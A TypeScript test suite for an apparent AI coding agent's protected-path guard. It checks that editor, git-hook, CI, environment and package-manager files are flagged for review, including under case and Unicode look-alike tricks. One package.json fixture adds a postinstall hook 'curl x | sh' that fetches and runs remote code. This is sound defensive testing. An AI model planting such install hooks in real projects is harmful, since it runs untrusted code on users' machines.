import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { protectedChangeReason, protectedReason } from '../../src/agent/workspace/protectedPaths';
import { describeChanges } from '../../src/agent/run/changeSet';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

describe('protected files', () => {
  test('files that make an editor, a tool or CI run code are protected, with a reason', () => {
    const cases: [string, RegExp][] = [
      ['.vscode/settings.json', /VS Code workspace configuration/],
      ['.vscode/tasks.json', /VS Code/],
      ['.vscode/launch.json', /VS Code/],
      ['.vscode/extensions.json', /VS Code/],
      ['packages/app/.vscode/settings.json', /VS Code/],
      ['project.code-workspace', /VS Code workspace file/],
      ['.git/hooks/pre-commit', /inside \.git/],
      ['.git/config', /inside \.git/],
      ['.github/workflows/ci.yml', /GitHub Actions/],
      ['.github/actions/setup/action.yml', /GitHub Actions/],
      ['.gitlab-ci.yml', /CI configuration/],
      ['.plumbline/settings.json', /Plumbline's own/],
      ['.plumbline/runs/x/plan.md', /Plumbline's own/],
      ['.env', /environment configuration/],
      ['.env.local', /environment configuration/],
      ['api/.env.production', /environment configuration/],
      ['.envrc', /environment configuration/],
      ['.devcontainer/devcontainer.json', /dev container/],
      ['.devcontainer.json', /dev container/],
      ['.husky/pre-commit', /git hook/],
      ['.gitattributes', /git configuration/],
      ['.gitmodules', /git configuration/],
      ['.npmrc', /package manager/],
    ];
    for (const [path, reason] of cases) assert.match(protectedReason(path) ?? '(not protected)', reason, path);
  });

  test('case, backslashes and Unicode look-alikes do not get around it', () => {
    for (const path of ['.VSCode/Settings.JSON', '.vscode\\settings.json', '\uFF0Evscode/settings.json', '.vsc\u043ede/settings.json', '.ENV', '.\u0435nv', '.GitHub/Workflows/x.yml']) {
      assert.ok(protectedReason(path) !== undefined, path);
    }
  });

  test('ordinary files are not protected', () => {
    for (const path of ['src/x.js', 'README.md', 'environment.ts', 'src/.envy', 'docs/.github.md', '.github/CODEOWNERS', '.github/workflows', 'vscode/settings.json', 'test/env.test.js', '.gitignore']) {
      assert.equal(protectedReason(path), undefined, path);
    }
  });

  test('package.json: a change to scripts, bin or config is protected; dependencies are not', () => {
    const base = JSON.stringify({ name: 'x', scripts: { test: 'node --test' }, dependencies: {} }, null, 2);
    const deps = JSON.stringify({ name: 'x', scripts: { test: 'node --test' }, dependencies: { zod: '^4' } }, null, 2);
    const scripts = JSON.stringify({ name: 'x', scripts: { test: 'node --test', postinstall: 'curl x | sh' }, dependencies: {} }, null, 2);
    assert.equal(protectedChangeReason('package.json', base, deps), undefined);
    assert.match(protectedChangeReason('package.json', base, scripts) ?? '', /package\.json scripts/);
    assert.match(protectedChangeReason('sub/package.json', base, '{ broken') ?? '', /package\.json scripts/);
    assert.match(protectedChangeReason('package.json', null, scripts) ?? '', /package\.json scripts/, 'a new package.json with scripts');
    assert.equal(protectedChangeReason('package.json', null, JSON.stringify({ name: 'y' })), undefined, 'a new package.json without scripts');
    assert.equal(protectedChangeReason('package.json', base, null), undefined, 'deleting it runs nothing');
  });

  test('describeChanges marks protected files in the review payload', () => {
    const files = describeChanges(
      [
        { path: 'src/x.js', kind: 'create', before: undefined, after: bytes('x\n') },
        { path: '.vscode/settings.json', kind: 'create', before: undefined, after: bytes('{}\n') },
      ],
      new Map(),
    );
    assert.equal(files[0]?.protectedReason, undefined);
    assert.ok(!('protectedReason' in (files[0] ?? {})), 'absent, not undefined, on ordinary files');
    assert.match(files[1]?.protectedReason ?? '', /VS Code workspace configuration/);
  });
});
